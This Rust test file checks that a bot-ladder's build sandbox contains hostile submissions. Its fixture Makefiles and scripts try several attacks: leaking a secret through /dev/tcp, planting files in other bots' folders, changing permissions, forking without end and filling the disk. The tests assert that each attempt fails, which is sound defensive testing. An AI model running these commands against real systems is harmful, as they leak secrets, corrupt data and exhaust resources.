//! Folders that were handed in by somebody bad: what builds them can hurt nothing else.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;

use crate::ladder::Place;
use crate::process::wait_until;

const SECRET: &str = "correct horse battery staple";

#[test]
fn a_makefile_reads_no_secret_writes_nothing_else_and_reaches_no_port() {
    let place = Place::new("evil");
    fs::write(place.path("secret"), SECRET).expect("a secret");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("it need not wait");
    let port = listener.local_addr().expect("an address").port();
    let (secret, outside) = (place.path("secret"), place.path("written"));
    let (secret, outside) = (secret.display(), outside.display());
    let (bots, results) = (place.bot(""), place.path("l.db"));
    let recipe = format!(
        "SHELL = /bin/bash\nall:\n\
         \t-echo bad > {outside}\n\
         \t-echo bad > {}/planted.py\n\
         \t-echo bad >> {}\n\
         \t-chmod 777 {secret}\n\
         \t-exec 3<>/dev/tcp/127.0.0.1/{port} && echo leaked >&3\n\
         \t-setsid sleep 1000 &\n\
         \t@echo \"error: it says $$(cat {secret})\"; exit 1\n",
        bots.display(),
        results.display(),
    );
    place.write("evil", "Makefile", &recipe);
    let mut ladder = place.ladder(&["--with", "random", "--with", "greedy"]);
    let told = ladder.hears("refused", "evil");
    let why = told["why"].as_str().expect("a reason");
    assert!(why.contains("error: it says"), "the first error is told: {why}");
    assert!(!told.to_string().contains(SECRET), "{told}");
    assert!(!place.path("written").exists() && !place.bot("planted.py").exists());
    assert!(listener.accept().is_err(), "nobody came");
    let mode = fs::metadata(place.path("secret")).expect("the secret").permissions().mode();
    assert_eq!(mode & 0o007, 0o004 & mode, "{mode:o}");
    place.until_played("greedy", 20);
    ladder.interrupt();
    place.is_sound();
}

/// What a build may read may belong to the user: its rights stay, and so does what is in it, also on kernels whose
/// walls do not know of all ways to cut a file short.
#[test]
fn a_build_opens_no_file_to_others_and_cuts_none_short() {
    let place = Place::new("rights");
    let script = "\
import os
own = open('own', 'w+')
own.write('text')
own.flush()
os.fchmod(own.fileno(), 0o755)
assert os.stat('own').st_mode & 0o777 == 0o755, 'tools make programs so'
done = []
for mode in [0o777, 0o775, 0o4755, 0o2755, 0o1755, 0o000, 0o300]:
    os.fchmod(own.fileno(), mode)
    if os.stat('own').st_mode & 0o7777 != 0o755:
        done.append(oct(mode))
try:
    os.truncate('own', 0)
    done.append('truncate')
except OSError:
    pass
print('error: it did', done)
";
    place.write("evil", "try.py", script);
    place.write("evil", "Makefile", "all:\n\t@python3 try.py; exit 1\n");
    let mut ladder = place.ladder(&["--with", "random", "--with", "greedy"]);
    let told = ladder.hears("refused", "evil");
    let why = told["why"].as_str().expect("a reason");
    assert!(why.contains("error: it did []"), "{why}");
    ladder.interrupt();
}

#[test]
fn a_build_that_never_ends_or_forks_without_end_is_stopped_with_all_it_started() {
    let place = Place::new("endless");
    // A number that no other process sleeps for.
    let nap = 700_000 + std::process::id();
    place.write("sleepy", "Makefile", &format!("all:\n\tsleep {nap} & sleep {nap}\n"));
    let bomb = format!("#!/bin/sh\nwhile :; do sleep {nap} & done\n");
    place.write("forky", "bomb.sh", &bomb);
    place.write("forky", "Makefile", "all:\n\tsh bomb.sh & sh bomb.sh\n");
    place.write("large", "Makefile", "all:\n\tcat /dev/zero > much\n");
    place.write("wrong", "Makefile", "all:\n\tcc -shared -fPIC -o wrong.so bot.c\n");
    place.write("wrong", "bot.c", "int main(void) { return nothing; }\n");
    let mut ladder = place.ladder(&["--with", "random", "--with", "greedy", "--build-time", "20s"]);
    let mut left = vec!["sleepy", "forky", "large", "wrong"];
    while !left.is_empty() {
        let told: serde_json::Value = serde_json::from_str(&ladder.0.line()).expect("JSON");
        if told["event"] != "refused" {
            continue;
        }
        let why = told["why"].as_str().expect("a reason");
        let (bot, expected) = match told["bot"].as_str() {
            Some("sleepy") => ("sleepy", "takes longer than 20s"),
            Some("forky") => ("forky", ""),
            Some("large") => ("large", ""),
            Some("wrong") => ("wrong", "bot.c"),
            other => panic!("{other:?}: {told}"),
        };
        assert!(why.contains(expected), "{why}");
        left.retain(|name| *name != bot);
    }
    let naps = || {
        let all = fs::read_dir("/proc").expect("processes").flatten();
        let text = |process: fs::DirEntry| {
            fs::read_to_string(process.path().join("cmdline")).unwrap_or_default()
        };
        all.map(text)
            .filter(|text| text.contains(&nap.to_string()) && text.contains("sleep"))
            .count()
    };
    wait_until("all that they started is gone", || naps() == 0);
    // And others are let in.
    place.new_bot("honest", "python");
    ladder.hears("new", "honest");
    place.until_played("honest", 4);
    ladder.interrupt();
    place.is_sound();
}
